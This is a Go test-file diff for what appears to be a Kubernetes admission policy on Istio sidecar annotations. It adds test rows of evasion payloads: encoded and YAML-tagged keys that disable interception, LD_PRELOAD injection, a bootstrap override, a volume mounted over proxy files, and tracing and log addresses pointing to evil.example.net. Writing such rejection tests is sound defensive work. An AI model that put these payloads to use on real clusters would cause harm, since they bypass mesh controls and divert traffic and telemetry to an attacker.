@@ -110,6 +110,18 @@ var podRows = map[string]podRow{
 	"proxy config":             {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "interceptionMode: NONE"}`, plainPod},
 	"proxy config, escaped":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: '{"intercept\u0069onMode": "NONE"}'}`, plainPod},
 	"proxy config, steered":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "discoveryAddress: mine:15012"}`, plainPod},
+	"proxy config, snake case": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "discovery_address: mine:15012"}`, plainPod},
+	"proxy config, file":       {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "custom_config_file: /mine"}`, plainPod},
+	"proxy config, folded":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "? \"intercept\\\n  ionMode\"\n: NONE"}`, plainPod},
+	"proxy config, tagged":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "!!binary aW50ZXJjZXB0aW9uTW9kZQ==: NONE"}`, plainPod},
+	"proxy config, tag of its": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "%TAG !e! tag:yaml.org,2002:\n---\n!e!%62inary aW50ZXJjZXB0aW9uTW9kZQ==: NONE"}`, plainPod},
+	"proxy config, bootstrap":  {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {ISTIO_BOOTSTRAP_OVERRIDE: /mine}", sidecar.istio.io/userVolume: '[{"name": "mine", "configMap": {"name": "mine"}}]'}`, plainPod},
+	"proxy config, all of it":  {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {PROXY_CONFIG: '{}'}"}`, plainPod},
+	"proxy config, library":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {LD_PRELOAD: /mine.so}"}`, plainPod},
+	"proxy config, no DNS":     {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "proxyMetadata: {ISTIO_META_DNS_CAPTURE: 'false'}"}`, plainPod},
+	"proxy config, its traces": {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "tracing: {zipkin: {address: evil.example.net:9411}}"}`, plainPod},
+	"proxy config, its log":    {"traffic", "metadata.annotations[proxy.istio.io/config]", `annotations: {proxy.istio.io/config: "envoyAccessLogService: {address: evil.example.net:9411}"}`, plainPod},
+	"files over the proxy's":   {"traffic", "metadata.annotations[sidecar.istio.io/userVolumeMount]", `annotations: {sidecar.istio.io/userVolumeMount: '[{"name": "mine", "mountPath": "/var/lib/istio/envoy"}]', sidecar.istio.io/userVolume: '[{"name": "mine", "configMap": {"name": "mine"}}]'}`, plainPod},
 	"no capture of DNS":        {"traffic", "metadata.annotations[ambient.istio.io/dns-capture]", `annotations: {ambient.istio.io/dns-capture: "false"}`, plainPod},
 	"hostNetwork":              {"host-network", "spec.hostNetwork", "", plainPod + ", hostNetwork: true"},
 	"uid 1337":                 {"privileges", "spec: container app ", "", "containers: [{name: app, image: app, securityContext: {runAsUser: 1337}}]"},
@@ -204,7 +216,7 @@ func TestWhatIstioMakesOfAPodPasses(t *testing.T) {
 				{name: istio-validation, image: proxyv2, securityContext: {runAsUser: 1337}}], securityContext: {fsGroup: 1337}`},
 		"native sidecar": {spec: plainPod + `, initContainers: [{name: istio-proxy, image: proxyv2, restartPolicy: Always, securityContext: {runAsUser: 1337}}]`},
 		"more captured":  {metadata: `annotations: {traffic.sidecar.istio.io/includeOutboundPorts: "5432", traffic.sidecar.istio.io/kubevirtInterfaces: net1, traffic.sidecar.istio.io/includeOutboundIPRanges: "*", traffic.sidecar.istio.io/excludeOutboundPorts: ""}`, spec: plainPod},
-		"settings":       {metadata: `annotations: {inject.istio.io/templates: "sidecar, ours", proxy.istio.io/config: "holdApplicationUntilProxyStarts: true", sidecar.istio.io/interceptionMode: TPROXY}, labels: {sidecar.istio.io/inject: "true"}`, spec: plainPod},
+		"settings":       {metadata: `annotations: {inject.istio.io/templates: "sidecar, ours", proxy.istio.io/config: "holdApplicationUntilProxyStarts: true\nproxyMetadata:\n  ISTIO_META_DNS_CAPTURE: \"true\"\n  EXIT_ON_ZERO_ACTIVE_CONNECTIONS: \"true\"\nproxyStatsMatcher: {inclusionRegexps: ['.*\\.outbound.*', \".*\\\\.inbound\"]}\ntracing: {sampling: 10}", sidecar.istio.io/interceptionMode: TPROXY}, labels: {sidecar.istio.io/inject: "true"}`, spec: plainPod},
 	} {
 		require.NoError(t, c.Create(t.Context(), row.pod(t, ns), client.DryRunAll), name)
 	}
